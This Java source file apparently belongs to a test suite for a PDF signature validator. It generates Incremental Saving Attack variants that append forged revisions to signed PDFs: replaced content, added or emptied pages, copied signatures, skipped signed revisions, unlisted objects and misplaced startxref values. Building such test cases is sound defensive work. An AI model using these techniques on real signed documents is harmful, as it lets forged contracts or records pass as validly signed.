package cn.sidian.seal.attack;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.jspecify.annotations.Nullable;

/** ISA: bytes behind the signed revision, in order or in every disorder that readers repair. */
final class IncrementalSaving {
  private IncrementalSaving() {}

  static byte[] contentReplaced(SealedFile file) {
    return Forged.content(new Revision(file)).bytes();
  }

  static byte[] pageAdded(SealedFile file) {
    COSDictionary pages = (COSDictionary) file.page().getDictionaryObject(COSName.PARENT);
    Revision revision = new Revision(file);
    String content = revision.add(Forged.drawing());
    String page =
        revision.add(
            "<</Type/Page/MediaBox[0 0 595 842]/Contents "
                + content
                + "/Parent "
                + Forged.reference(pages)
                + ">>");
    return revision
        .put(pages, "<</Type/Pages/Count 1/Kids[" + page + "]/MediaBox[0 0 595 842]>>")
        .bytes();
  }

  static byte[] pagesEmptied(SealedFile file) {
    COSDictionary pages = (COSDictionary) file.page().getDictionaryObject(COSName.PARENT);
    return new Revision(file).put(pages, "<</Type/Pages/Count 0/Kids[]>>").bytes();
  }

  /** The new objects, and then nothing of what a revision ends with. */
  static Maker cut(String tail) {
    return file -> {
      Revision revision = Forged.content(new Revision(file));
      revision.writeObjects();
      return revision.ending(tail);
    };
  }

  static byte[] trailerOnly(SealedFile file) {
    Revision revision = Forged.content(new Revision(file));
    revision.writeObjects();
    return revision.ending(revision.trailerText() + "%%EOF\n");
  }

  static byte[] oldStartxref(SealedFile file) {
    Revision revision = Forged.content(new Revision(file));
    revision.writeObjects();
    return revision.ending(
        "xref\n0 0\n" + revision.trailerText() + "startxref\n" + file.startxref() + "\n%%EOF\n");
  }

  /** A second section within what readers search when startxref misses. */
  static byte[] startxrefBeside(SealedFile file) {
    Revision revision = Forged.content(new Revision(file));
    byte[] whole = revision.withTable();
    String text = new String(whole, StandardCharsets.ISO_8859_1);
    int at = text.lastIndexOf("startxref\n") + 10;
    long right = Long.parseLong(text.substring(at).split("\n", 2)[0]);
    return CosText.latin1(text.substring(0, at) + (right - 7) + "\n%%EOF\n");
  }

  static byte[] signatureCopied(SealedFile file) {
    Revision revision = Forged.content(new Revision(file));
    return file.isSignatureIndirect()
        ? revision.put(file.signature(), file.signature()).bytes()
        : revision.put(file.field(), file.field()).bytes();
  }

  /** The revision continues the one before the signed one, as if that had never been. */
  static byte @Nullable [] signedRevisionSkipped(SealedFile file) {
    Revision revision = Forged.content(new Revision(file));
    long before = file.trailer().getLong(COSName.PREV, -1);
    if (before < 0) {
      return null;
    }
    revision.put(file.catalog(), file.catalog());
    revision.put(file.field(), file.field());
    if (file.isSignatureIndirect()) {
      revision.put(file.signature(), file.signature());
    }
    return revision.trailer("Prev", Long.toString(before)).bytes();
  }

  static byte[] withoutPrevious(SealedFile file) {
    Revision revision = new Revision(file).withoutTrailer("Prev");
    String form = Revision.text(file.form());
    return revision.trailer("Root", Forged.document(revision, "/AcroForm " + form)).bytes();
  }

  static byte[] endlessChain(SealedFile file) {
    Revision revision = Forged.content(new Revision(file));
    Map<Long, Long> offsets = revision.writeObjects();
    long at = revision.ending("").length;
    revision.trailer("Prev", Long.toString(at));
    return revision.ending(
        "xref\n0 0\n"
            + revision.trailerText()
            + "startxref\n"
            + (offsets.isEmpty() ? 0 : at)
            + "\n%%EOF\n");
  }

  /** Objects in a complete revision that no entry lists; who searches for objects finds them. */
  static byte[] objectsInNoList(SealedFile file) {
    Revision hidden = Forged.content(new Revision(file));
    hidden.writeObjects();
    byte[] objects = hidden.ending("");
    String between =
        new String(
            Arrays.copyOfRange(objects, file.length(), objects.length),
            StandardCharsets.ISO_8859_1);
    Revision revision = new Revision(file).beforeXref(between);
    revision.add("(nothing)");
    return revision.bytes();
  }

  static Maker behindTheEnd(String tail) {
    return file -> {
      byte[] all = Arrays.copyOf(file.bytes(), file.length() + tail.length());
      System.arraycopy(CosText.latin1(tail), 0, all, file.length(), tail.length());
      return all;
    };
  }
}
